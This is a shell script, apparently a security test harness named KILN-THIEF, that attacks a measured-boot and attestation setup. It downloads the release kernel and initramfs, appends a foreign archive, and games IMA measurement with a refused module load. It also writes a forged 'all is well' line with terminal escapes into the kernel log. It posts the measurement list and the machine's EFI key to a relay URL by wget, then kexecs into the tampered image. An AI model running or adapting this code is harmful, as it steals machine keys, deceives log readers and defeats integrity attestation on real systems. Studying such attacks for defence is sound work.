#!/bin/sh
# Says on the console what root can load for a kexec: KILN-THIEF <what> <detail>. Told so on the serial line, it goes by kexec
# into the release's own kernel, with the release's own initramfs and one file more: `steal URL` as it is; `hide URL` after the kernel
# has measured that as a module. Before it goes it says what the kernel has measured, as the agent would, to the relay at URL, and
# hands over the machine's key, which root can read. `twice` does the same as `hide` behind a load of the release's own, and stays.
# At its start it forges the log.

place=/run/kiln-thief
lists=/sys/kernel/security/ima/ascii_runtime_measurements
measured=/sys/kernel/security/ima/binary_runtime_measurements
key=/sys/firmware/efi/efivars/KilnKey-6b696c6e-0000-4000-8000-6b696c6e0001

say() {
    echo "KILN-THIEF $*" >/dev/console
}

# A string of what the agent handed over, by the text before it.
said() {
    sed -n "s/.*$1\([^\"]*\)\".*/\1/p" /run/kiln/handoff.json
}

# Loads this initramfs: what kexec says, and whether a kernel is loaded.
load() {
    kexec -s -l "$place/kexec_kernel" --initrd="$1" --command-line="$(said '"command_line":"')" 2>&1 | tr '\n' ' '
    test "$(cat /sys/kernel/kexec_loaded)" = 1
}

jump() {
    say goes "the kernel takes it"
    kexec -e
}

digits() {
    od -An -v -tx1 "$1" | tr -d ' \n'
    echo
}

# As the agent's last word before it goes: from here on no module is loaded, so that the list stays as it is.
tell() {
    echo 1 >/proc/sys/kernel/modules_disabled
    { cat /proc/sys/kernel/random/boot_id && digits "$measured" && digits "$key"; } >"$place/word"
    busybox wget -q -O /dev/null --post-file="$place/word" "$1"
}

# The kernel refuses it as a module, and has measured it by then.
hide() {
    busybox insmod "$place/foreign" 2>/dev/null
    say hidden "listed $(grep -c "$place/foreign" "$lists") time"
}

if [ "$1" = late ]; then
    if [ "$(cat /proc/sys/kernel/kexec_load_disabled)" = 1 ]; then
        # One is loaded, and stays: the refusal is in the words.
        say late "refused: $(load "$place/foreign")"
    else
        say late "nothing was loaded"
    fi
    exit 0
fi

# A line for whoever reads the machine's log: it clears a screen, paints, and begins another line. Not for the console.
printf '<7>\033[2J\033[31mKILN-INJECTED\r2026-01-01T00:00:00Z kiln all is well\n' >/dev/kmsg

# What carries the site's signature for a kexec is nobody's secret: who has a UKI can make it. Here the rack serves it.
mkdir -p "$place/more/kiln"
server=$(said '"servers":{"http":\["')
for part in kexec_kernel initramfs; do
    hash=$(said "\"$part\":{\"sha256\":\"")
    busybox wget -q -O "$place/$part" "$server/a/$hash" || say fail "$part does not come from $server"
done
cp "$place/initramfs" "$place/foreign"
echo "not the site's" >"$place/more/kiln/foreign"
truncate -s %4 "$place/foreign"
(cd "$place/more" && find kiln | busybox cpio -o -H newc 2>/dev/null) >>"$place/foreign"
say foreign "$(sha256sum <"$place/foreign" | cut -c 1-64)"
# Open before anybody is told, so that no word is lost.
exec 3</dev/ttyS0
say ready "$(wc -c <"$place/kexec_kernel") and $(wc -c <"$place/initramfs") bytes"

while true; do
    # Its end is a hang-up of the line.
    read -r word relay <&3 || { sleep 1; exec 3</dev/ttyS0; continue; }
    case "$word" in
    steal)
        if message=$(load "$place/foreign"); then
            if tell "$relay"; then jump; else say fail "$relay does not hear it"; fi
        else
            say fail "$message"
        fi
        ;;
    hide)
        hide
        if message=$(load "$place/foreign"); then
            say loaded "listed $(grep -c "$place/foreign" "$lists") time"
            if tell "$relay"; then jump; else say fail "$relay does not hear it"; fi
        else
            say fail "$message"
        fi
        ;;
    twice)
        hide
        if message=$(load "$place/initramfs"); then say once "the kernel takes it"; else say fail "$message"; fi
        # One is loaded, and stays.
        say twice "refused: $(load "$place/foreign")"
        ;;
    esac
done
